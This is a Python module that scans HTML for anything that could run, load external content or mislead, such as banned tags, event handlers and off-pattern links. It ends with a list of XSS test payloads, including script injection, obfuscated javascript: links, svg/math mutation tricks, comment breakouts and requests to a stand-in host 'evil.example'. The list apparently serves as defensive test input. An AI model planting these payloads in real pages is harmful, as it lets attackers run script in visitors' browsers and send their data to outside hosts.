"""Finds in a page whatever could run, load or lead astray."""

import re
from html.parser import HTMLParser

_HARMLESS_HEAD = {"meta", "style", "title", "html", "head", "body"}
_BANNED = {"script", "iframe", "frame", "object", "embed", "applet", "link", "base", "form", "input", "button", "textarea", "select"} | {
    "svg",
    "math",
    "template",
    "noscript",
    "video",
    "audio",
    "source",
    "portal",
    "foreignobject",
}


class _Page(HTMLParser):
    def __init__(self, whole: bool) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []
        self.tags: dict[str, int] = {}
        self._whole, self._body = whole, not whole

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags[tag] = self.tags.get(tag, 0) + 1
        if tag == "body":
            self._body = True
        if tag in _BANNED or (self._body and tag in _HARMLESS_HEAD - {"body"}):
            self.found.append(f"<{tag}>")
        for name, value in attrs:
            value = value or ""
            if name.startswith("on") or name in {"style", "srcdoc", "srcset", "formaction", "background", "xlink:href", "ping", "target"}:
                self.found.append(f"{tag} {name}={value[:40]}")
            if name == "src" and not re.match(r"data:image/(png|jpeg|gif|webp|svg\+xml)[;,]", value):
                self.found.append(f"{tag} src={value[:40]}")
            if name == "href" and not re.match(r"https?://|mailto:|#|data:text/csv[;,]|[\w-]+/report\.(html|pdf|ipynb)$", value):
                self.found.append(f"{tag} href={value[:40]}")
            if tag == "meta" and name == "http-equiv" and value != "Content-Security-Policy":
                self.found.append(f"meta {value}")


def live_parts(text: str, *, whole: bool = True, script: str = "") -> list[str]:
    """Descriptions of all that is alive, but one script of our own at the page's end; empty for a page that only shows."""
    text = text.replace(f"</main>\n<script>{script}</script>\n</body>", "</main>\n</body>") if script else text
    page = _Page(whole)
    page.feed(text)
    page.close()
    return page.found


def tags(text: str) -> dict[str, int]:
    """How often each tag opens."""
    page = _Page(True)
    page.feed(text)
    return page.tags


PAYLOADS = (
    "<script>window.pwned=1</script>",
    "<img src=x onerror=window.pwned=1>",
    "<img src='data:image/svg+xml,<svg onload=window.pwned=1>' onload=window.pwned=1>",
    "<svg onload=window.pwned=1><script>window.pwned=1</script></svg>",
    "<svg><style><img src=x onerror=window.pwned=1></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=window.pwned=1>",
    "<a href='javascript:window.pwned=1'>x</a>",
    "<a href=' &#1;java\tscript:window.pwned=1'>x</a>",
    "<a href='data:text/html,<script>window.pwned=1</script>'>x</a>",
    "<a href='vbscript:x'>x</a>",
    "<a href='//evil.example/x'>x</a>",
    "<iframe srcdoc='<script>parent.pwned=1</script>'></iframe>",
    "<object data='data:text/html,<script>parent.pwned=1</script>'></object>",
    "<embed src='https://evil.example/x.swf'>",
    "<link rel=stylesheet href='https://evil.example/x.css'>",
    "<style>@import 'https://evil.example/x.css'; body{background:url(https://evil.example/x)}</style>",
    "<div style='background:url(https://evil.example/x)'>x</div>",
    "<base href='https://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<form action='https://evil.example/'><input name=x><button>Go</button></form>",
    "<img src='https://evil.example/pixel.png' srcset='https://evil.example/2x.png 2x'>",
    "<video src='https://evil.example/x.mp4' autoplay></video>",
    "<details open ontoggle=window.pwned=1><summary>x</summary></details>",
    "<table background='https://evil.example/x'><tr><td>x</table>",
    "<noscript><p title='</noscript><img src=x onerror=window.pwned=1>'></noscript>",
    "<template><script>window.pwned=1</script></template>",
    "</main></body></html><script>window.pwned=1</script>",
    "</style><script>window.pwned=1</script>",
    "--><script>window.pwned=1</script><!--",
    "<textarea></textarea><img src=x onerror=window.pwned=1></textarea>",
    "<p title=\"x\" onmouseover='window.pwned=1'>x</p>",
    "<a href='https://ok.example' target=_blank ping='https://evil.example/p'>x</a>",
    "<x-foo onclick=window.pwned=1 contenteditable autofocus onfocus=window.pwned=1>x</x-foo>",
)
